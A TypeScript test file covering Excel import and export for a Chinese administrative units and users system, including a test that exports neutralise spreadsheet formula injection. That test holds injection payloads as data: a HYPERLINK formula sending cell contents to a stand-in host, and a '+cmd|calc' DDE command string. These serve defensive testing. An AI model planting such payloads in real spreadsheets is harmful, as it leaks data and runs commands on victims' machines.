/** .xlsx import (all-or-nothing, every bad row reported) and export for regions, units and users. */
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTenant, type Tenant } from '../support/factories';
import { engineName, getHarness } from '../support/harness';
import { readBack, workbook } from '../support/xlsx';

let t: Tenant;
beforeAll(async () => {
  t = await createTenant();
});

const UNIT_HEADERS = ['单位名称', '单位类型', '所属区划代码', '上级单位', '一把手', '一把手电话', '联络员', '联络员电话', '状态'];

describe(`import and export (${engineName})`, () => {
  it('serves templates whose header row is the import layout', async () => {
    const office = await t.as('office');
    const res = await office.get('/api/units/import-template');
    expect(res.status).toBe(200);
    expect(String(res.headers['content-disposition'])).toContain(encodeURIComponent('单位导入模板.xlsx'));
    expect((await readBack(res.raw))[0]).toEqual(UNIT_HEADERS);
  });

  it('reports every bad row with row, column and a Chinese reason, and writes nothing', async () => {
    const { database } = await getHarness();
    const office = await t.as('office');
    // Counted within this tenant only: other test files may write to the same database meanwhile.
    const count = async () =>
      (await sql<{ n: number }>`select count(*)::int as n from units where name like ${'%' + t.tag + '%'}`.execute(database.db)).rows[0].n;
    const events = async () =>
      (await sql<{ n: number }>`select count(*)::int as n from audit_events where actor_id = ${t.users.office.id}`.execute(database.db))
        .rows[0].n;
    const [unitsBefore, eventsBefore] = [await count(), await events()];
    const file = await workbook(UNIT_HEADERS, [
      [`好单位${t.tag}`, '县直部门', t.countyCode, '', '张三', '13900001111', '李四', '13900002222', '启用'],
      ['', '县直部门', t.countyCode, '', '', '', '', '', ''],
      [`坏类型${t.tag}`, '部委', t.countyCode, '', '', '', '', '', ''],
      [`坏区划${t.tag}`, '学校', '000000', '', '', '', '', '', ''],
      [`坏电话${t.tag}`, '医院', t.countyCode, '', '王五', '12345', '', '', '暂停'],
      [`好单位${t.tag}`, '县直部门', t.countyCode, '不存在的上级', '', '', '', '', ''],
    ]);
    const res = await office.upload('/api/units/import', file);
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('import_invalid');
    expect(res.body.error.message).toContain('未写入任何数据');
    const rows = res.body.error.rows.map((r: { row: number; column: string }) => `${r.row}:${r.column}`);
    expect(rows).toEqual(['3:单位名称', '4:单位类型', '5:所属区划代码', '6:一把手电话', '6:状态', '7:单位名称', '7:上级单位']);
    for (const r of res.body.error.rows) expect(r.message).toMatch(/[\u4e00-\u9fa5]/);
    expect(await count()).toBe(unitsBefore);
    expect(await events()).toBe(eventsBefore);
  });

  it('imports a valid file (parents later in the file are fine), then exports the same rows', async () => {
    const office = await t.as('office');
    const file = await workbook(UNIT_HEADERS, [
      [
        `朝阳社区居委会${t.tag}`,
        '村社区',
        `${t.countyCode}001`,
        `城东街道办${t.tag}`,
        '乐朝阳',
        '13900003333',
        '于晖',
        '0316-5201234',
        '启用',
      ],
      [`城东街道办${t.tag}`, '乡镇街道', `${t.countyCode}001`, '', '史东升', '13900004444', '', '', ''],
    ]);
    const res = await office.upload('/api/units/import', file);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({ created: 2, updated: 0 });
    const list = await office.get(`/api/units?search=${encodeURIComponent(`朝阳社区居委会${t.tag}`)}`);
    expect(list.body.items[0]).toMatchObject({ type: 'community', parentName: `城东街道办${t.tag}`, liaisonPhone: '0316-5201234' });
    const exported = await readBack((await office.get(`/api/units/export?regionId=${t.townAId}`)).raw);
    // A title row and an information row come first; the header row is 序号 and the import layout.
    expect(exported[0][0]).toMatch(/^单位台账（截至\d{4}年\d{1,2}月\d{1,2}日）$/);
    expect(exported[2]).toEqual(['序号', ...UNIT_HEADERS]);
    expect(exported.find((r) => r[1] === `朝阳社区居委会${t.tag}`)?.slice(1)).toEqual([
      `朝阳社区居委会${t.tag}`,
      '村社区',
      `${t.countyCode}001`,
      `城东街道办${t.tag}`,
      '乐朝阳',
      '13900003333',
      '于晖',
      '0316-5201234',
      '启用',
    ]);
    // Importing the same rows again updates instead of duplicating.
    expect((await office.upload('/api/units/import', file)).body).toEqual({ created: 0, updated: 2 });
  });

  it('refuses a file that is not an .xlsx, whatever its name', async () => {
    const office = await t.as('office');
    const res = await office.upload('/api/units/import', Buffer.from('单位名称,单位类型\n'), 'units.xlsx');
    expect(res.status).toBe(415);
    expect(res.body.error.message).toContain('.xlsx');
  });

  it('imports regions with the parent given after the child, and rejects a bad level order', async () => {
    const admin = await t.as('admin');
    const bad = await admin.upload(
      '/api/regions/import',
      await workbook(['区划代码', '名称', '层级', '上级区划代码'], [[`${t.countyCode}001901`, '某村', '县(区)', `${t.countyCode}001`]]),
    );
    expect(bad.status).toBe(422);
    expect(bad.body.error.rows[0]).toMatchObject({ row: 2, column: '层级' });
    const ok = await admin.upload(
      '/api/regions/import',
      await workbook(
        ['区划代码', '名称', '层级', '上级区划代码'],
        [
          [`${t.countyCode}003001`, '幸福社区', '村(社区)', `${t.countyCode}003`],
          [`${t.countyCode}003`, '幸福街道', '乡镇(街道)', t.countyCode],
        ],
      ),
    );
    expect(ok.status).toBe(201);
    expect(ok.body).toEqual({ created: 2, updated: 0 });
    const tree = (await admin.get(`/api/regions?search=${t.countyCode}003`)).body.items;
    expect(tree.map((r: { name: string }) => r.name).sort()).toEqual(['幸福社区', '幸福街道']);
  });

  it('imports accounts with temporary passwords that must be changed, refusing 三员分立 violations', async () => {
    const sec = await t.as('security');
    const headers = ['用户名', '姓名', '手机号', '所属单位', '所属区划代码', '角色', '创建项目'];
    const bad = await sec.upload(
      '/api/users/import',
      await workbook(headers, [[`imp1${t.tag}`, '张一', '', '', '', '审计管理员；创建办', '']]),
    );
    expect(bad.status).toBe(422);
    expect(bad.body.error.rows.map((r: { column: string }) => r.column)).toEqual(expect.arrayContaining(['角色', '所属区划代码']));
    const ok = await sec.upload(
      '/api/users/import',
      await workbook(headers, [
        [`imp2${t.tag}`, '张二', '', `市场监管局${t.tag}`, '', '单位联络员', ''],
        [`imp3${t.tag}`, '张三', '', '', t.countyCode, '督查员', ''],
      ]),
    );
    expect(ok.status).toBe(201);
    expect(ok.body.created).toBe(2);
    const cred = ok.body.credentials[0];
    const { Client } = await import('../support/client');
    const c = await new Client((await getHarness()).app).login(cred.username, cred.password);
    expect((await c.get('/api/units')).body.error.code).toBe('password_change_required');
    const exported = await readBack((await sec.get(`/api/users/export?search=imp2${t.tag}`)).raw);
    expect(exported[2][0]).toBe('序号');
    expect(exported[3].slice(0, 3)).toEqual(['1', `imp2${t.tag}`, '张二']);
    expect(exported[3][6]).toBe('单位联络员');
  });
});

describe(`formulas never leave in an export (${engineName})`, () => {
  it('a unit named =HYPERLINK(…) exports as text with a leading quote, and imports back unchanged', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const office = await t.as('office');
    const name = `=HYPERLINK("http://evil.invalid/?"&A1,"点我")${t.tag}`;
    const file = await workbook(UNIT_HEADERS, [
      [name, '县直部门', `${t.countyCode}001`, '', '@SUM(1+1)', '13900005555', '+cmd|calc', '', '启用'],
    ]);
    const imported = await office.upload('/api/units/import', file);
    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
    const exported = (await office.get(`/api/units/export?regionId=${t.townAId}`)).raw;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    let found = 0;
    ws.eachRow((row) => {
      row.eachCell((cell) => {
        // No cell of the export is a formula, and no text cell starts with = + - @.
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@]/);
      });
      // Column 1 is 序号; the unit's columns follow.
      if (row.getCell(2).value === `'${name}`) {
        found += 1;
        expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
        expect(row.getCell(6).value).toBe("'@SUM(1+1)");
        expect(row.getCell(8).value).toBe("'+cmd|calc");
      }
    });
    expect(found).toBe(1);
    // The export re-imports as the same unit (the quote is dropped on reading), not a new one named "'=…".
    expect((await office.upload('/api/units/import', exported)).body).toMatchObject({ created: 0 });
    const list = await office.get(`/api/units?search=${encodeURIComponent(t.tag)}&pageSize=100`);
    expect(list.body.items.filter((u: { name: string }) => u.name.includes('HYPERLINK')).map((u: { name: string }) => u.name)).toEqual([
      name,
    ]);
  });
});
